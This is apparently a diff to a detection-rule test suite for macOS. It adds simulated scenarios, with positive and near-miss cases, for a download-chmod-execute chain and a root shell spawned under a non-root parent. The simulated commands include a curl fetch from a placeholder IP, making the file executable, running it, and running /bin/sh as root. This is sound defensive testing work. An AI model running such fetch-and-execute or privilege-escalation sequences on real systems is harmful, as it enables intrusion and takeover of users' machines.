@@ -151,6 +151,40 @@ def _write(writer: str, path: str) -> Scenario:
     return scenario
 
 
+def _download_exec(run_path: str) -> Scenario:
+    def scenario(sim: Simulation) -> Iterator[int]:
+        shell = login_shell(sim)
+        yield 100
+        got = "/Users/alice/Downloads/tool"
+        curl = run(sim, shell, "/usr/bin/curl", "-so", got, "https://203.0.113.9/tool")
+        yield 10
+        sim.open(curl, got, O_WRONLY | O_CREAT)
+        yield 3000
+        chmod = run(sim, shell, "/bin/chmod", "+x", got)
+        yield 10
+        sim.chmod(chmod, got, 0o755)
+        yield 5000
+        run(sim, shell, run_path)
+        yield 100
+    return scenario
+
+
+def _root_under(parent_path: str, child_path: str) -> Scenario:
+    """A user's program whose child execs ``child_path`` as root (an exploit that called
+    setuid(0), or sudo)."""
+    def scenario(sim: Simulation) -> Iterator[int]:
+        shell = login_shell(sim)
+        yield 100
+        parent = run(sim, shell, parent_path)
+        yield 500
+        parent.as_user(ROOT)  # setuid(0) (or sudo's own setuid bit)
+        parent.ruid = ALICE.uid
+        parent.refresh_subject()
+        run(sim, parent, child_path, "-c", "id")
+        yield 100
+    return scenario
+
+
 POSITIVE: dict[str, Scenario] = {
     "Execution From a Temporary, Hidden or Shared Path": _exec("/tmp/.x/payload"),
     "Shell or Downloader Spawned by a Browser, Office App or Installer": _app_child(
@@ -174,6 +208,10 @@ POSITIVE: dict[str, Scenario] = {
         "/bin/sh", "/Users/alice/.zshrc"),
     "Gatekeeper, Quarantine, SIP or Time Machine Tampering": _exec(
         "/usr/sbin/spctl", "--master-disable", user=ROOT),
+    "Download, Chmod, Then Execution of the Same File": _download_exec(
+        "/Users/alice/Downloads/tool"),
+    "Root Process Under a Non-Root Parent Without Sudo, Su or Login": _root_under(
+        "/Users/alice/exploit", "/bin/sh"),
 }
 
 NEAR_MISS: dict[str, Scenario] = {
@@ -199,4 +237,9 @@ NEAR_MISS: dict[str, Scenario] = {
         "/usr/bin/vim", "/Users/alice/.zshrc"),
     "Gatekeeper, Quarantine, SIP or Time Machine Tampering": _exec("/usr/sbin/spctl",
                                                                    "--status", user=ROOT),
+    # the downloaded file is made executable, but another one runs
+    "Download, Chmod, Then Execution of the Same File": _download_exec(
+        "/Users/alice/Downloads/other-tool"),
+    "Root Process Under a Non-Root Parent Without Sudo, Su or Login": _root_under(
+        "/usr/bin/sudo", "/bin/sh"),
 }
